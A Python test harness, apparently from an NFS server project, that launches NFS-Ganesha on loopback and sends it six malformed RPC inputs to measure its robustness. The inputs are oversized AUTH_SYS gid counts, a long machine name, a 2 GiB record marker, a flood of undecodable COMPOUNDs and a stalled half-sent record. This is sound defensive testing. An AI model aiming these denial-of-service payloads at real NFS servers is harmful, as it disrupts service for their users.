#!/usr/bin/env python3
"""Run the RPC-layer attacks of docs/security.md against NFS-Ganesha (issue 14: "beside what Ganesha does").

Starts /usr/bin/ganesha.nfsd (VFS FSAL) in the foreground, as GaneshaVectorClientIT does, on a temporary
export and a free loopback port, then runs each attack alone. After each attack a probe opens a fresh
connection and sends a NULL ping and an NFSv4.0 COMPOUND (PUTROOTFH + GETATTR); the script prints what Ganesha
answered the attack, Ganesha's RSS (VmRSS) before and after, the probe latencies and how many lines Ganesha
logged meanwhile. Needs root (ganesha.nfsd). Python 3 standard library only; talks to 127.0.0.1 only; whole
run bounded to about 2 minutes. Not part of any test run.

    sudo python3 scripts/attack-ganesha.py [--ganesha /usr/bin/ganesha.nfsd] [--keep]
"""
import argparse
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

NFS_PROG, NFS_VERS = 100003, 4
AUTH_NONE, AUTH_SYS = 0, 1
ACCEPT_STAT = {0: "SUCCESS", 1: "PROG_UNAVAIL", 2: "PROG_MISMATCH", 3: "PROC_UNAVAIL", 4: "GARBAGE_ARGS",
               5: "SYSTEM_ERR"}
AUTH_STAT = {0: "AUTH_OK", 1: "AUTH_BADCRED", 2: "AUTH_REJECTEDCRED", 3: "AUTH_BADVERF",
             4: "AUTH_REJECTEDVERF", 5: "AUTH_TOOWEAK", 6: "AUTH_INVALIDRESP", 7: "AUTH_FAILED"}
DEADLINE = time.monotonic() + 115


def u32(v):
    return struct.pack(">I", v & 0xFFFFFFFF)


def opaque(b):
    return u32(len(b)) + b + b"\0" * (-len(b) % 4)


def auth_sys(machine=b"attacker", uid=0, gid=0, gids=(), claimed=None):
    """An AUTH_SYS body; claimed overrides the gid count written (the bytes sent stay those of gids)."""
    body = u32(0) + opaque(machine) + u32(uid) + u32(gid) + u32(len(gids) if claimed is None else claimed)
    body += b"".join(u32(g) for g in gids)
    return u32(AUTH_SYS) + opaque(body)


def call(xid, proc, args=b"", cred=None):
    cred = cred if cred is not None else u32(AUTH_NONE) + u32(0)
    msg = u32(xid) + u32(0) + u32(2) + u32(NFS_PROG) + u32(NFS_VERS) + u32(proc) + cred + u32(AUTH_NONE) + u32(0)
    return msg + args


def record(msg):
    return u32(0x80000000 | len(msg)) + msg


def recv_exact(s, n):
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise EOFError
        buf += chunk
    return buf


def read_reply(s):
    """One reply record -> (xid, text, body after the accept_stat)."""
    data = b""
    while True:
        mark = struct.unpack(">I", recv_exact(s, 4))[0]
        data += recv_exact(s, mark & 0x7FFFFFFF)
        if mark & 0x80000000:
            break
    xid, _mtype, stat = struct.unpack(">III", data[:12])
    if stat == 1:  # MSG_DENIED
        rstat = struct.unpack(">I", data[12:16])[0]
        if rstat == 1:
            a = struct.unpack(">I", data[16:20])[0]
            return xid, "MSG_DENIED AUTH_ERROR/" + AUTH_STAT.get(a, str(a)), b""
        return xid, "MSG_DENIED RPC_MISMATCH", b""
    vlen = struct.unpack(">I", data[16:20])[0]
    off = 20 + vlen + (-vlen % 4)
    astat = struct.unpack(">I", data[off:off + 4])[0]
    return xid, "MSG_ACCEPTED " + ACCEPT_STAT.get(astat, str(astat)), data[off + 4:]


def answer(s, timeout):
    """What the server does next on s: its reply, 'connection closed', or 'nothing'."""
    s.settimeout(timeout)
    try:
        return read_reply(s)[1]
    except EOFError:
        return "connection closed"
    except ConnectionResetError:
        return "connection reset"
    except socket.timeout:
        return "nothing within %.0f s" % timeout


def connect(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


# COMPOUND4args: tag "", minorversion 0, PUTROOTFH (24), GETATTR (9) of the type attribute (bit 1)
PROBE_COMPOUND = opaque(b"") + u32(0) + u32(2) + u32(24) + u32(9) + u32(1) + u32(1 << 1)
# an undecodable COMPOUND4args: the tag claims 1,000 bytes, none follow
GARBAGE_COMPOUND = u32(1000)


def probe(port):
    """NULL ping and COMPOUND on a fresh connection -> text."""
    try:
        t0 = time.monotonic()
        with connect(port) as s:
            s.sendall(record(call(1, 0)))
            null = answer(s, 5)
            t1 = time.monotonic()
            s.sendall(record(call(2, 1, PROBE_COMPOUND, auth_sys())))
            s.settimeout(5)
            _x, text, body = read_reply(s)
            t2 = time.monotonic()
            status = ("nfsstat4 %d" % struct.unpack(">I", body[:4])[0]) if body else text
        return "NULL %s %.1f ms, COMPOUND %s %.1f ms" % (null.split()[-1], (t1 - t0) * 1000, status,
                                                          (t2 - t1) * 1000)
    except (OSError, EOFError) as e:
        return "probe failed: %r" % e


def rss_kib(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return -1


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def listening(port):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
        return True
    except OSError:
        return False


CONFIG = """NFS_CORE_PARAM {{
    NFS_Port = {port};
    Bind_addr = 127.0.0.1;
    Protocols = 4;
    Enable_NLM = false;
    Enable_RQUOTA = false;
    Enable_UDP = false;
}}
NFSV4 {{
    Graceless = true;
    Minor_Versions = 0, 1;
    RecoveryBackend = fs;
    RecoveryRoot = {base}/recovery;
}}
NFS_KRB5 {{ Active_krb5 = false; }}
EXPORT {{
    Export_Id = 77;
    Path = {base}/export;
    Pseudo = /export;
    Protocols = 4;
    Transports = TCP;
    Access_Type = RW;
    Squash = No_Root_Squash;
    SecType = sys;
    FSAL {{ Name = VFS; }}
}}
LOG {{ Default_Log_Level = EVENT; }}
"""


# ---- the attacks; each returns what Ganesha answered ----

def attack_gid_bomb(port):
    with connect(port) as s:
        s.sendall(record(call(0xA1, 0, cred=auth_sys(gids=range(16), claimed=0x7FFFFFFF))))
        return answer(s, 10)


def attack_17_gids(port):
    with connect(port) as s:
        s.sendall(record(call(0xA2, 0, cred=auth_sys(gids=range(17)))))
        return answer(s, 10)


def attack_long_machine_name(port):
    with connect(port) as s:
        s.sendall(record(call(0xA3, 0, cred=auth_sys(machine=b"m" * 300))))
        return answer(s, 10)


def attack_huge_marker(port, wait=20):
    with connect(port) as s:
        t0 = time.monotonic()
        s.sendall(u32(0x80000000 | 0x7FFFFFFF) + b"ABCDEFGH")
        text = answer(s, wait)
        return "%s after %.2f s" % (text, time.monotonic() - t0) if "closed" in text or "reset" in text else text


def attack_garbage_flood(port, n=20000, limit=25):
    counts, done = {}, threading.Event()
    with connect(port) as s:
        def reader():
            s.settimeout(limit)
            try:
                for _ in range(n):
                    text = read_reply(s)[1]
                    counts[text] = counts.get(text, 0) + 1
            except (OSError, EOFError) as e:
                counts["then " + type(e).__name__] = 1
            done.set()
        t = threading.Thread(target=reader, daemon=True)
        t.start()
        t0 = time.monotonic()
        batch = b"".join(record(call(0x100000 + i, 1, GARBAGE_COMPOUND, auth_sys())) for i in range(100))
        try:
            for _ in range(n // 100):
                s.sendall(batch)
        except OSError as e:
            counts["send " + type(e).__name__] = 1
        done.wait(limit)
        took = time.monotonic() - t0
        return "%s in %.1f s" % (", ".join("%d x %s" % (v, k) for k, v in counts.items()) or "no reply", took)


def attack_idle_mid_record(port, idle=30):
    with connect(port) as s:
        t0 = time.monotonic()
        s.sendall(u32(0x80000000 | 100) + b"0123456789")
        text = answer(s, idle)
        if "closed" in text or "reset" in text:
            return "%s after %.1f s" % (text, time.monotonic() - t0)
        return "not closed after %.0f s (%s)" % (idle, text)


ATTACKS = [
    ("(a) one call, AUTH_SYS claiming 2^31-1 gids", attack_gid_bomb),
    ("(b) AUTH_SYS with 17 gids", attack_17_gids),
    ("(c) AUTH_SYS machine name of 300 bytes", attack_long_machine_name),
    ("(d) record marker claiming 2 GiB, 8 bytes, silence", attack_huge_marker),
    ("(e) 20,000 undecodable COMPOUNDs on one connection", attack_garbage_flood),
    ("(f) connection idle in the middle of a record", attack_idle_mid_record),
]


def log_lines(path):
    try:
        with open(path, "rb") as f:
            return f.read().decode("utf-8", "replace").splitlines()
    except OSError:
        return []


def new_lines(path, before):
    """How many lines the log grew by, and the last of them without its date and thread."""
    lines = log_lines(path)[len(before):]
    return "+%d%s" % (len(lines), (", last: '%s'" % lines[-1].split("] ", 1)[-1]) if lines else "")


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--ganesha", default="/usr/bin/ganesha.nfsd")
    ap.add_argument("--keep", action="store_true", help="keep the temporary directory (config, log)")
    opts = ap.parse_args()
    base = tempfile.mkdtemp(prefix="attack-ganesha-")
    os.makedirs(base + "/export")
    os.makedirs(base + "/recovery")
    port = free_port()
    with open(base + "/ganesha.conf", "w") as f:
        f.write(CONFIG.format(port=port, base=base))
    log = base + "/ganesha.log"
    out = open(base + "/ganesha.out", "wb")
    proc = subprocess.Popen([opts.ganesha, "-F", "-f", base + "/ganesha.conf", "-L", log,
                             "-p", base + "/ganesha.pid", "-N", "NIV_EVENT"], stdout=out, stderr=subprocess.STDOUT)

    def on_alarm(_sig, _frame):
        raise TimeoutError("attack-ganesha.py: time limit reached")
    signal.signal(signal.SIGALRM, on_alarm)
    signal.alarm(int(DEADLINE - time.monotonic()))
    try:
        t0 = time.monotonic()
        while not listening(port):
            if proc.poll() is not None or time.monotonic() - t0 > 30:
                raise SystemExit("ganesha.nfsd did not start on port %d; see %s" % (port, base))
            time.sleep(0.1)
        print("ganesha.nfsd pid %d on 127.0.0.1:%d, listening after %.1f s; %s"
              % (proc.pid, port, time.monotonic() - t0, subprocess.run([opts.ganesha, "-v"], capture_output=True,
                                                                      text=True).stdout.strip().splitlines()[0:1]))
        print("baseline: RSS %d KiB; probe: %s" % (rss_kib(proc.pid), probe(port)))
        sys.stdout.flush()
        for name, attack in ATTACKS:
            before, lines = rss_kib(proc.pid), log_lines(log)
            try:
                result = attack(port)
            except (OSError, EOFError) as e:
                result = "attack failed: %r" % e
            after = rss_kib(proc.pid) if proc.poll() is None else -1
            p = probe(port)
            print("%s: %s | RSS %d -> %d KiB | probe: %s | log lines %s"
                  % (name, result, before, after, p, new_lines(log, lines)))
            sys.stdout.flush()
            if proc.poll() is not None:
                print("ganesha.nfsd exited with %s" % proc.returncode)
                break
    finally:
        signal.alarm(0)
        if proc.poll() is None:
            proc.terminate()
            try:
                proc.wait(20)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait(10)
        out.close()
        if opts.keep:
            print("kept", base)
        else:
            shutil.rmtree(base, ignore_errors=True)


if __name__ == "__main__":
    main()
